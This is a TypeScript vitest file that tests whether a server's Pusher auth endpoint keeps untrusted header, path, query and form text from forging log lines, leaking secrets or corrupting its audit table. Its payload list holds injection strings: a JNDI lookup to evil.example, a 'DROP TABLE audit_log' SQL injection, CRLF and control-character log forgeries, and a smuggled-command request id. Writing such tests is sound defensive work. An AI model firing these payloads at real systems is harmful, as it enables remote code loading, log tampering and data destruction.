import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openSocket } from '../http/raw-socket.ts';
import { createTestDatabase, withClient, type TestDatabase } from '../support/database.ts';
import { startProgram, type Program } from '../support/program.ts';
import { guestSecret, testEnvironment } from '../support/usher.ts';
import { testSecret } from '../support/tokens.ts';
import { receive, raw } from './attacker.ts';

/** Texts that would start a new line, clear a screen or end a string if they were written unescaped. */
const forged = '{"level":30,"msg":"granted to admin"}';
const payloads = [
  `\u001b[2J\u001b[31m${forged}`,
  `\u0085${forged}`,
  `\u2028${forged}`,
  `\b\b\b${forged}`,
  `"},${forged},{"a":"`,
  `%0d%0a${forged}`,
  `\${jndi:ldap://evil.example/a}`,
  `'; DROP TABLE audit_log; --`,
];

describe('text of an untrusted client', () => {
  let database: TestDatabase;
  let program: Program;
  let address: string;
  beforeAll(async () => {
    database = await createTestDatabase();
    const DATABASE_URL = database.url.reveal();
    program = await startProgram('src/main.ts', {
      env: { ...testEnvironment, NODE_ENV: 'production', DATABASE_URL, LOG_LEVEL: 'debug' },
    });
    await program.until('"listening"');
    address = /"public":"([^"]+)"/.exec(program.stdout())![1]!;
  });
  afterAll(async () => {
    program.signal('SIGTERM');
    await program.ended;
    await database.drop();
  });

  const places: Readonly<Record<string, (text: string) => string>> = {
    'the user agent': (text) =>
      raw('POST /pusher/auth', ['Host: u', `User-Agent: ${text}`, type], form),
    'the request id': (text) =>
      raw('POST /pusher/auth', ['Host: u', `X-Request-Id: ${text}`, type], form),
    'the tenant': (text) =>
      raw('POST /pusher/auth', ['Host: u', `X-Tenant-ID: ${text}`, type], form),
    'the host': (text) => raw('POST /pusher/auth', [`Host: ${text}`, type], form),
    'the path': (text) => raw(`POST /${encodeURI(text)}`, ['Host: u', type], form),
    'the query': (text) =>
      raw(`POST /pusher/auth?token=${encodeURI(text)}`, ['Host: u', type], form),
    'the channel': (text) =>
      raw('POST /pusher/auth', ['Host: u', type], `${form}${encodeURIComponent(text)}`),
    'the token': (text) =>
      raw('POST /pusher/auth', ['Host: u', `Authorization: Bearer ${text}`, type], form),
  };
  const type = 'Content-Type: application/x-www-form-urlencoded';
  const form = 'socket_id=1.2&channel_name=private-tenant.1.user.15';

  it.each(Object.entries(places))(
    '%s appears in at most one line of JSON in the log',
    async (_place, make) => {
      for (const text of payloads) {
        const { status } = await receive(address, Buffer.from(make(text)));
        expect([400, 401, 403, 404]).toContain(status);
      }
      for (const line of program.stdout().trimEnd().split('\n')) {
        const entry = JSON.parse(line) as Readonly<Record<string, unknown>>;
        expect(entry['msg']).not.toBe('granted to admin');
        // eslint-disable-next-line no-control-regex -- that there is none is the point
        expect(line).not.toMatch(/[\0-\x08\x0a-\x1f\x7f\u0085\u2028\u2029]/);
      }
    },
  );

  it('a line break in a header ends the request', async () => {
    for (const end of ['\r\n\tx', '\n x', '\rx', '\0']) {
      const lines = ['Host: u', `User-Agent: a${end}${forged}`];
      expect((await receive(address, raw('POST /pusher/auth', lines))).status).toBe(400);
    }
    expect(program.stdout()).not.toContain('granted to admin"}');
  });

  it('a request id is ignored unless a trusted proxy sent it', async () => {
    for (const id of [
      'a',
      'a b c d e f g',
      '../../etc',
      'a'.repeat(129),
      '${a}-12345678',
      'id;12345678',
    ]) {
      const { head } = await receive(
        address,
        raw('POST /nowhere', ['Host: u', `X-Request-Id: ${id}`]),
      );
      expect(head).toMatch(/x-request-id: [0-9a-f-]{36}\r\n/);
    }
  });

  it('no row contains a control character, and no table was dropped', async () => {
    const { rows } = await withClient(database.url, (client) =>
      client.query<{ row: string }>('SELECT a::text AS row FROM audit_log a'),
    );
    expect(rows.length).toBeGreaterThan(0);
    // eslint-disable-next-line no-control-regex -- that there is none is the point
    for (const { row } of rows) expect(row).not.toMatch(/[\0-\x1f\x7f-\x9f\u2028\u2029]/);
  });

  it('no log line and no row contains a secret or a token', async () => {
    const socket = await openSocket(address);
    socket.end(
      raw('POST /pusher/auth', ['Host: u', 'Authorization: Bearer hunter2-as-a-token', type], form),
    );
    await socket.closed;
    for (const secret of [
      guestSecret,
      testSecret.reveal(),
      testEnvironment['PUSHER_SECRET']!,
      'hunter2-as-a-token',
    ]) {
      expect(program.stdout() + program.stderr()).not.toContain(secret);
    }
  });
});
